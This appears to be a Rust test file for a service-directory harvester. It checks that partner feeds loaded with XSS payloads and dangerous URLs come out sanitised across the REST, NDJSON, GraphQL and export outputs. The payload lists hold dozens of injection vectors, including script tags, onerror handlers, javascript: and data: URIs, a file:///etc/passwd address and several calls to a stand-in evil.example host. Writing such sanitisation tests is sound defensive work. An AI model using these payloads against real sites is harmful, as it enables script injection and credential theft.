//! What partners write is text: markup is taken off on the way in, so that a page that forgets to escape runs nothing.

use serde_json::{Value, json};

use crate::directory::Directory;

/// What feeds were found to hold, by accident or not, that a browser could run or a page could break at.
const PAYLOADS: [&str; 48] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) //",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=\"javascript:alert(1)\">Book</a>",
    "<a href='vbscript:x'>Book</a>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=p type=password></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<textarea autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt;img src=x onerror=alert(1) ",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>alert(1)</\u{0}script>",
    "<\u{200b}img src=x onerror=alert(1)",
    "\u{202e}<script>alert(1)</script>\u{2028}\u{2029}",
    "{\"a\": \"</script>\"}\n{\"b\": 1}\r\n",
    "under <ten & over <sixty, 5 < 6, <3",
];

/// Addresses that a click would run, or that hide what they are.
const ADDRESSES: [&str; 12] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "https://user:secret@example.org/\"><script>alert(1)</script>",
];

/// A service that says the same in each of its fields.
fn saying(number: usize, words: &str, address: &str) -> Value {
    let term = json!({ "id": format!("t{number}"), "code": words, "name": format!("Term {number} {words}"),
        "description": words, "taxonomy_id": "tx", "term_uri": address });
    let attribute =
        json!([{ "id": format!("a{number}"), "label": words, "value": words, "taxonomy_term": term }]);
    let mut service = json!({
        "id": number.to_string(), "name": format!("Club {number} {words}"), "alternate_name": words,
        "description": words, "url": address, "email": words, "status": "active", "interpretation_services": words,
        "application_process": words, "fees_description": words, "accreditations": words, "alert": words,
        "eligibility_description": words, "assurer_email": words, "attributes": attribute,
        "additional_urls": [{ "id": "u", "label": words, "url": address }],
        "phones": [{ "id": "p", "number": "01752 555010", "extension": words, "description": words, "type": words }],
        "contacts": [{ "id": "c", "name": words, "title": words, "department": words, "email": words }],
        "schedules": [{ "id": "s", "description": words, "schedule_link": address, "notes": words, "freq": "WEEKLY", "byday": "MO" }],
        "cost_options": [{ "id": "co", "option": words, "amount_description": words, "currency": words }],
        "languages": [{ "id": "l", "name": words, "note": words, "code": words }],
        "service_areas": [{ "id": "sa", "name": words, "description": words, "extent": words, "uri": address }],
        "required_documents": [{ "id": "rd", "document": words, "uri": address }],
        "funding": [{ "id": "f", "source": words }]
    });
    service["organization"] = json!({ "id": format!("o{number}"), "name": format!("Trust {number} {words}"), "description": words,
            "website": address, "logo": address, "uri": address, "email": words, "legal_status": words });
    service["service_at_locations"] = json!([{ "id": "sal", "description": words, "location": {
        "id": format!("l{number}"), "name": format!("Hall {number} {words}"), "location_type": "physical",
        "url": address, "description": words, "transportation": words, "alternate_name": words,
        "addresses": [{ "id": "ad", "attention": words, "address_1": format!("{number} High Street {words}"),
            "city": words, "region": words, "state_province": words, "postal_code": "PL1 1AA", "country": "GB",
            "address_type": "physical" }],
        "accessibility": [{ "id": "ac", "description": words, "details": words, "url": address }],
    }}]);
    service
}

/// A directory of services that say nothing but this.
fn full_of_markup() -> Directory {
    let directory = Directory::on_sqlite();
    let plain = "https://example.org/";
    let services =
        PAYLOADS.iter().map(|words| (*words, plain)).chain(ADDRESSES.iter().map(|one| ("Games", *one)));
    let services: Vec<_> = services.zip(1..).map(|((words, address), n)| saying(n, words, address)).collect();
    directory.write("hostile", "services.json", &json!({ "contents": services }).to_string());
    let toml = "name = \"Hostile\"\nformat = \"hsds\"\nlocation = \"services.json\"\n[licence]\nid = \"OGL-UK-3.0\"\n";
    directory.write("hostile", "source.toml", toml);
    let report = directory.harvest("hostile", &harvest::Options::default());
    assert!(report.counts.items > services.len() as u64, "{:?}", report.counts);
    let quoted: Vec<_> = PAYLOADS
        .iter()
        .zip(1..)
        .map(|(words, n)| {
            format!("{n},\"Rows {n} {0}\",\"{0}\",\"{0}\",Hall {n} \"\"{0}\"\"", words.replace('"', "\"\""))
        })
        .collect();
    let quoted: Vec<_> = quoted.iter().map(|line| line.split(",Hall").next().unwrap().to_owned()).collect();
    directory.write("rows", "list.csv", &format!("Ref,Name,Description,Website\n{}\n", quoted.join("\n")));
    let toml = "name = \"Rows\"\nformat = \"csv\"\nlocation = \"list.csv\"\n[licence]\nid = \"OGL-UK-3.0\"\n[map]\nid = \"Ref\"\n[map.service]\nname = \"Name\"\ndescription = \"Description\"\nurl = \"Website\"\n";
    directory.write("rows", "source.toml", toml);
    directory.harvest("rows", &harvest::Options::default());
    directory
}

/// Whether a browser would see the beginning of a tag, a comment or a declaration.
fn opens_a_tag(text: &str) -> bool {
    text.match_indices('<').any(|(at, _)| {
        let next = text[at + 1..].chars().next();
        next.is_some_and(|c| c.is_ascii_alphabetic() || "/!?".contains(c))
    })
}

/// Every text in a value, with the member that holds it.
fn texts<'v>(value: &'v Value, member: &'v str) -> Vec<(&'v str, &'v str)> {
    match value {
        Value::String(text) => vec![(member, text)],
        Value::Array(list) => list.iter().flat_map(|value| texts(value, member)).collect(),
        Value::Object(members) => members.iter().flat_map(|(name, value)| texts(value, name)).collect(),
        _ => Vec::new(),
    }
}

fn is_inert(value: &Value, output: &str) {
    for (member, text) in texts(value, "") {
        assert!(!opens_a_tag(text), "{output}: {member} holds markup: {text}");
        let hidden = |c: char| c.is_control() && c != '\n';
        assert!(!text.contains(hidden), "{output}: {member} holds control characters: {text:?}");
        let is_address = ["url", "uri", "website", "logo", "link", "Url", "Uri", "Link"]
            .iter()
            .any(|end| member.ends_with(end));
        if is_address && !text.is_empty() {
            assert!(
                text.starts_with("http://") || text.starts_with("https://"),
                "{output}: {member} is {text}"
            );
            assert!(
                !text.contains(['"', '<', '>', ' ']) && !text.contains("secret@"),
                "{output}: {member} is {text}"
            );
        }
    }
}

#[test]
fn no_answer_holds_markup_that_could_run_or_an_address_that_does_not_lead_to_the_web() {
    let directory = full_of_markup();
    let reader = directory.anonymous();
    let first = reader.gets("/oruk/v3/services?per_page=100&full=true");
    assert!(first.body["total_items"].as_u64().unwrap() >= 90, "{}", first.body["total_items"]);
    for path in [
        "services?full=true&",
        "organizations?full=true&",
        "service_at_locations?full=true&",
        "taxonomies?",
        "taxonomy_terms?",
    ] {
        let path = format!("/oruk/v3/{path}per_page=100");
        let answer = reader.gets(&path);
        assert_eq!(
            (answer.status.as_u16(), answer.header("x-content-type-options")),
            (200, "nosniff"),
            "{path}"
        );
        assert_eq!(answer.header("content-type"), "application/json", "{path}");
        is_inert(&answer.body, &path);
        assert!(!answer.text.to_lowercase().contains("<script"), "{path}");
        let stream = reader.gets(&format!("{path}&format=ndjson"));
        for line in stream.text.lines() {
            is_inert(&serde_json::from_str(line).unwrap(), "ndjson");
        }
    }
    let graph = reader.queries(
        "{ services(first: 100) { nodes { name description url email additionalUrls { url label } organization { name website logo } } } \
           locations(first: 100) { nodes { name url description addresses { address1 city } } } }",
    );
    assert!(
        graph["data"]["services"]["nodes"].as_array().is_some_and(|nodes| nodes.len() == 100),
        "{graph:.500}"
    );
    is_inert(&graph["data"], "the graph");
    directory.store.for_each_published(|entity| is_inert(&entity.noun.to_value(), "the export")).unwrap();
}

#[test]
fn an_address_that_is_dropped_is_told_of() {
    let directory = full_of_markup();
    let issues = directory.store.issues(Some(&"hostile".parse().unwrap()), None, 100_000, 0).unwrap();
    for address in ADDRESSES.iter().filter(|one| !one.starts_with("https:")) {
        let is_told = issues.iter().any(|issue| {
            issue.draft.field.as_deref() == Some("url") && issue.draft.value.as_deref() == Some(*address)
        });
        assert!(is_told, "nobody learns that {address} was dropped");
    }
}

#[test]
fn what_people_read_stays() {
    let directory = full_of_markup();
    let names = directory.anonymous().service_names();
    let last = format!("Club {} under < ten & over < sixty, 5 < 6, <3", PAYLOADS.len());
    assert!(names.contains(&last), "{names:#?}");
    assert!(names.contains(&"Club 20 Book".to_owned()), "{names:#?}");
}
